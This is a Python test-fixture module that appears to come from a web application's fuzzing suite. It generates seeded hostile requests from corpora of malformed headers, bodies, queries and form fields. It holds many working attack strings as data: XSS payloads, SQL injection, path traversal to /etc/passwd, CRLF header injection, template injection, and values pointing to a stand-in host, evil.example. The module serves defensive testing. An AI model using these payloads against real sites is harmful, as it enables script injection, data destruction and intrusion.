"""What strangers send: corpora of hostile values.

Everything random comes from a `random.Random` that the caller seeds, so that a failure can be repeated.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from random import Random
from typing import Any
from urllib.parse import quote_from_bytes

from tests.functional.hostile_requests import PART, Route, as_bytes, multipart, urlencoded

#: If this reaches a page as it stands, so would a script.
MARKER = "\"'><svg/onload=alert(7)>"
#: Texts for every place that takes text, in a form or in an address.
TEXTS: tuple[bytes, ...] = tuple(
    as_bytes(text)
    for text in (
        "", " ", "0", "-1", "1", "9223372036854775807", "9223372036854775808", "1" + "0" * 40, "-9223372036854775809",
        "1e999", "NaN", "Infinity", "0x10", "٣", "１２", "1_000", "+1", " 1", "1\n", "true", "null", "undefined", "None",
        MARKER, "<script>alert(1)</script>", "${7*7}", "{{7*7}}", "%s%n%d", "{0.__class__}", "__csrf_token__", "<!--live-->",
        "' OR '1'='1", "'; DROP TABLE posts; --", "%", "_", "\\", "\0", "a\0b", "\r\nX-Injected: yes", "\n\n", "\x1b[31m",
        "\u2028", "\u202e", "\u200b", "\ufeff", "\ud800".encode("utf-8", "surrogatepass"), b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80",
        "é" * 50, "👩‍👩‍👧‍👧" * 20, "a" * 141, "b" * 2001, "c" * 70_000, "../../etc/passwd", "..", ".", "/", "//evil.example",
        "https://evil.example/", "javascript:alert(1)", "@@index", "@mei", "mei.json", "CON", "1.webp", "a=b&c=d", ";", ",",
        "2026-13-45", "2026-02-30T25:61", "0001-01-01T00:00", "9999-12-31T23:59:59+14:00", "Mars/Phobos", "public", "only_me",
    )
)  # fmt: skip
#: Values for members of JSON documents.
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 2**63, 2**64, 10**40, 1e308, "", " ", "x" * 3000, MARKER, "\x1b", "\u202e", [], {}, [[]],
    [None], ["a"] * 200, [{}], {"a": {"b": {"c": []}}}, {"id": "1"}, {"": ""}, "2026-02-30T00:00:00Z", "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00", "1", "-1", "public", "only_me", {"name": None}, [1, "1", None], "UTC", "\u2028", "ﬀ" * 200,
)  # fmt: skip
#: Whole bodies that are no document of ours.
BODIES: tuple[bytes, ...] = (
    b"", b" ", b"null", b"true", b"0", b'""', b"[]", b"{}", b"{", b"}", b'{"food"', b'{"food": }', b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}", b'{"food": "\xff"}', b'{"food": "\\ud800"}', b'{"food": "\\u0000"}', b'{"food": NaN}', b'{"food": 1e9999}',
    b'{"food": "a", "food": "b"}', b'{"__proto__": {}, "constructor": 1}', b'{"username": "\\udc00", "password": "\\udc00"}',
    b'{"refresh_token": "\\ud83d"}', b'{"a": 1}' * 3, b"[" * 5000 + b"]" * 5000, b'{"a":' * 5000 + b"1" + b"}" * 5000,
    b'{"note": "' + b"z" * 1_100_000 + b'"}', b'{"tags": [' + b'"t",' * 40_000 + b'"t"]}', b"food=a&note=b", b"<xml/>", b"\0" * 100,
    b'{"eaten_at": "2026-01-01T00:00:00+99:99", "food": "x"}', b'{"food": 123456789012345678901234567890}',
)  # fmt: skip
CONTENT_TYPES = (
    "", "application/json", "application/json; charset=utf-16", "application/json; charset=nothing", "APPLICATION/JSON",
    "text/plain", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7",
    "application/x-www-form-urlencoded; charset=nothing", "multipart/form-data", "multipart/form-data; boundary=",
    "multipart/form-data; boundary=limit", "multipart/form-data; boundary=limit; charset=utf-16", "multipart/form-data; boundary=\xff",
    "multipart/form-data; boundary=" + "b" * 300, "multipart/mixed; boundary=limit", "application/merge-patch+json", "image/png",
    "application/json, text/plain", "/", ";", "\xff\xfe", "a" * 5000,
)  # fmt: skip
#: By name in the WSGI environment; each of the values has made some server or framework fall over.
HEADERS: Mapping[str, tuple[str, ...]] = {
    "HTTP_AUTHORIZATION": (
        "Bearer ", "Bearer x", "bearer a.b.c", "Bearer " + "a" * 9000, "Bearer \xff\xfe", "Basic dXNlcjpwYXNz", "Bearer a b c",
        "Bearer eyJhbGciOiJub25lIn0.e30.", "Bearer ..", "Bearer\t", "Digest", "\xff", "Bearer " + MARKER,
    ),
    "HTTP_COOKIE": (
        "session=", "session=x", "session=" + "A" * 43, "session=\xff\xfe", "csrf=\xc3\xa9; csrf=x", "flash=a.b", "flash=" + "a" * 5000,
        "flash=W10.x", "basket=", "basket=" + "b" * 43, "basket=\xff", "lang=xx; lang=zh_CN", "lang=../../etc", "=; ;;=", "a" * 9000,
        '$Version=1; session="a\\"b"', "session=\x00", "csrf=" + MARKER, "session=a, session=b",
    ),
    "HTTP_IF_MATCH": ("*", '"', "W/", '"1-', '"1-"', "\xff", '"a","b"' * 500, "1", "*, *"),
    "HTTP_IF_NONE_MATCH": ("*", '"', "W/", "\xff", '"a","b"' * 500, "," * 4000, '"a" ' * 1000, 'W/"' * 1000),
    "HTTP_IF_MODIFIED_SINCE": ("x", "Thu, 99 Foo 9999 99:99:99 GMT", "0", "\xff", "Thu, 01 Jan 1970 00:00:00 GMT"),
    "HTTP_RANGE": ("bytes=0-0", "bytes=-1", "bytes=9-1", "bytes=0-99999999999999999999", "bytes=a-b", "bytes=" + "0-1," * 500, "x"),
    "HTTP_IF_RANGE": ('"a"', "x", "\xff"),
    "HTTP_ACCEPT": ("*/*", "text/html;q=x", "application/json", "a" * 5000, "\xff", "/", ",,,", "text/html;level=1;q=2", "image/*;q=-1"),
    "HTTP_ACCEPT_LANGUAGE": ("zh-CN", "*", "x" * 3000, "en;q=abc", "zh-" * 500, "\xff", "../../etc/passwd", ",;q=", "en-US-x-" + "a" * 300),
    "HTTP_ACCEPT_ENCODING": ("gzip;q=x", "\xff", "identity;q=0", "br" * 2000),
    "HTTP_ORIGIN": ("null", "http://evil.example", "http://localhost", "\xff", "", "http://localhost.evil.example", "file://"),
    "HTTP_ACCESS_CONTROL_REQUEST_METHOD": ("PUT", "", "\xff", "a" * 3000),
    "HTTP_ACCESS_CONTROL_REQUEST_HEADERS": ("authorization", ",,,", "\xff", "x" * 5000),
    "HTTP_SEC_FETCH_SITE": ("cross-site", "same-origin", "\xff", ""),
    "HTTP_HOST": ("", "evil.example", "localhost:99999", "localhost:x", "localhost:80@evil.example", "[::1", "\xff", "a b", "a" * 3000, "evil.example\r\nX: y"),
    "HTTP_X_FORWARDED_FOR": ("::1", "\xff", "1.2.3.4, " * 300, MARKER),
    "HTTP_X_FORWARDED_HOST": ("evil.example", "\xff"),
    "HTTP_X_FORWARDED_PROTO": ("https", "gopher", "\xff"),
    "HTTP_X_FORWARDED_PREFIX": ("/evil", "//evil.example"),
    "HTTP_FORWARDED": ("for=evil;host=evil.example;proto=https",),
    "HTTP_X_HTTP_METHOD_OVERRIDE": ("DELETE", "PUT", "\xff"),
    "HTTP_X_REQUEST_ID": ("a\r\nb", "x" * 5000, "\xff", MARKER, "ok-1"),
    "HTTP_X_CSRF_TOKEN": ("", "x", "\xff", "é", "a" * 5000),
    "HTTP_USER_AGENT": ("", MARKER, "a\r\nb", "\xff" * 400, "Mozilla/5.0 (" * 300, "\x1b[2J"),
    "HTTP_REFERER": ("javascript:alert(1)", "\xff", "http://evil.example/" + "a" * 5000),
    "HTTP_HX_REQUEST": ("true", "\xff"),
    "HTTP_EXPECT": ("100-continue", "x"),
    "HTTP_TRANSFER_ENCODING": ("chunked", "identity", "x"),
    "HTTP_CONTENT_ENCODING": ("gzip", "br"),
    # Not more than the body has: the server has read all of it before it calls the application.
    "CONTENT_LENGTH": ("", "-1", "x", "0"),
    "REMOTE_ADDR": ("", "::1", "x", "fe80::1%eth0", "::ffff:1.2.3.4", "a" * 500),
    "HTTP_X_JUNK": ("a" * 60_000,),
}  # fmt: skip
#: Queries; parameters that no schema knows, twice, and with values of the wrong kind.
QUERIES = (
    "", "?", "&", "a", "a=1&a=2", "max_id=", "max_id=-1", "max_id=0", "max_id=99999999999999999999", "max_id=1&max_id=2", "limit=0",
    "limit=-5", "limit=101", "limit=1e3", "limit=10&limit=20", "skip=10001", "skip=-1", "skip=1", "min_id=x", "from=x&to=y",
    "from=0001-01-01&to=9999-12-31", "from=10000-01-01", "from=1700000000", "photo=maybe", "meal_type=x", "diet=vegan&diet=x",
    "without=" + "&without=".join(["milk"] * 20), "tag=%00", "tag=" + "a" * 3000, "tag=%ff", "place=%25%27%22", "q=%00", "next=//evil.example",
    "next=https://evil.example", "next=/a&next=/b", "next=%0d%0aX:1", "token=x", "token=%ff", "token=" + "a" * 9000, "_method=DELETE",
    "lang=zh_CN", "lang=%00", "%ff=%ff", "a%00b=1", "&".join(f"p{n}={n}" for n in range(2000)), "a[]=1&a[b]=2", "=", "==&==", "%", "%zz",
)  # fmt: skip


@dataclass
class Hostile:
    """Makes requests up, one after another, from a seed."""

    random: Random
    paths: Mapping[str, list[str]]
    documents: Mapping[str, Any]
    forms: Mapping[str, Mapping[str, str]]
    picture: bytes

    def path(self, route: Route) -> str:
        """An address of the route: about something that is there, or with junk in its parts."""
        known = self.paths.get(route.name)
        if known and self.random.random() < 0.6:
            path = self.random.choice(known)
        else:
            filled = PART.sub(lambda match: quote_from_bytes(self.random.choice(TEXTS)[:3000], safe="@"), route.pattern)
            path = "/" + filled.lstrip("/").replace("*subpath", quote_from_bytes(self.random.choice(TEXTS)[:3000]))
        return f"{path}?{self.random.choice(QUERIES)}" if self.random.random() < 0.35 else path

    def body(self, route: Route) -> tuple[bytes, str]:
        """A body and its content type."""
        maker = self.random.choice((self._mutated_json, self._raw, self._form, self._parts, self._parts))
        return maker(route)

    def headers(self) -> dict[str, str]:
        """Some headers; more often than not none."""
        names = self.random.sample(sorted(HEADERS), self.random.choice((0, 0, 1, 1, 2, 5)))
        return {name: self.random.choice(HEADERS[name]) for name in names}

    def _mutated_json(self, route: Route) -> tuple[bytes, str]:
        document = dict(self.documents.get(route.name) or {"food": "rice"})
        for _ in range(self.random.choice((0, 1, 1, 2))):
            name = self.random.choice(
                [*document, "role", "id", "account_id", "likes_count", "version", "media", "tags", "place", ""]
            )
            document[name] = self.random.choice(VALUES)
        kind = self.random.choice(
            ("application/json", "application/json", "application/merge-patch+json", *CONTENT_TYPES)
        )
        return json.dumps(document).encode(), kind

    def _raw(self, route: Route) -> tuple[bytes, str]:
        return self.random.choice(BODIES), self.random.choice(
            (*CONTENT_TYPES, "application/json", "application/merge-patch+json")
        )

    def _fields(self, route: Route) -> list[tuple[str, bytes]]:
        """A good form with some bad values, and some fields twice."""
        known = self.forms.get(route.name) or {"food": "rice", "next": "/"}
        pairs = [(name, as_bytes(value)) for name, value in known.items()]
        for _ in range(self.random.choice((0, 1, 1, 3))):
            name = self.random.choice(
                [*known, "csrf_token", "next", "version", "undo", "media_id", "media_position", "media_alt", "remove"]
            )
            pairs.append((name, self.random.choice(TEXTS)))
            if self.random.random() < 0.5:
                pairs = [pair for pair in pairs[:-1] if pair[0] != name] + pairs[-1:]
        return pairs

    def _form(self, route: Route) -> tuple[bytes, str]:
        kind = self.random.choice(("application/x-www-form-urlencoded",) * 4 + CONTENT_TYPES)
        return urlencoded(self._fields(route)), kind

    def _parts(self, route: Route) -> tuple[bytes, str]:
        """A form in parts; any field may come as a file, and any file as text."""
        parts: list[tuple[str, str | None, str | bytes]] = [
            (name, self.random.choice((None, None, "a.png", "", '"\\', "../x")), value)
            for name, value in self._fields(route)
        ]
        for name in ("photo", "photo", "avatar", "file"):
            if self.random.random() < 0.3:
                content = self.random.choice((b"", b"x", self.picture, self.picture[:100], b"<svg onload=alert(1)>"))
                parts.append((name, self.random.choice((None, "a.jpg", "a.php\0.jpg", "é.png")), content))
        heads = (
            b"", b"", b"", b"Content-Type: text/plain; charset=utf-16\r\n", b"Content-Transfer-Encoding: base64\r\n",
            b"Content-Type: multipart/mixed; boundary=inner\r\n", b"Content-Length: 3\r\n", b"X\r\n", b"Content-Type: \xff\r\n",
        )  # fmt: skip
        body, kind = multipart(parts, head=self.random.choice(heads))
        damage = self.random.random()
        if damage < 0.1:
            body = body[: self.random.randrange(len(body))]
        elif damage < 0.2:
            kind = self.random.choice(CONTENT_TYPES)
        elif damage < 0.25:
            body = body.replace(b"\r\n", b"\n")
        elif damage < 0.3:
            body = body.replace(b'name="', b"name=\xff", 1)
        return body, kind


#: What must not become a script, wherever it is stored; {} tells one field from another.
XSS: tuple[str, ...] = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example/x></sCrIpT>", "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=alert(1) `",
    '" autofocus onfocus=alert(1) x="', "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "java\tscript:alert(1)", "[x](javascript:alert(1))", "<a href='data:text/html,<script>'>x</a>",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<style>@import 'http://evil.example'</style>", "<style>*{{}}</style>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>", "<button formaction=javascript:alert(1)>x</button>", "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>", "<xss id=x tabindex=1 onfocus=alert(1)>", "<!--<img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=1?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    "${structure: request}", "<tal:block content='structure: 1'/>", "<!--live-->", "__csrf_token__", "<div hx-get=//evil.example hx-trigger=load>",
    "<p hx-on:click=alert(1)>", "<i data-hx-on:load=alert(1)>", "<plaintext>", "<textarea></textarea><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<a href=\"http://x.example/' onclick='alert(1)\">x</a>",
    "http://x.example/\"onmouseover=\"alert(1)", "http://x.example/<script>alert(1)</script>", "#<script>alert(1)</script>", "@<script>alert(1)</script>",
    "#tag\"onclick=\"alert(1)", "https://x.example/?a='><img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'", "<img onerror=alert(1) src=x//",
)  # fmt: skip
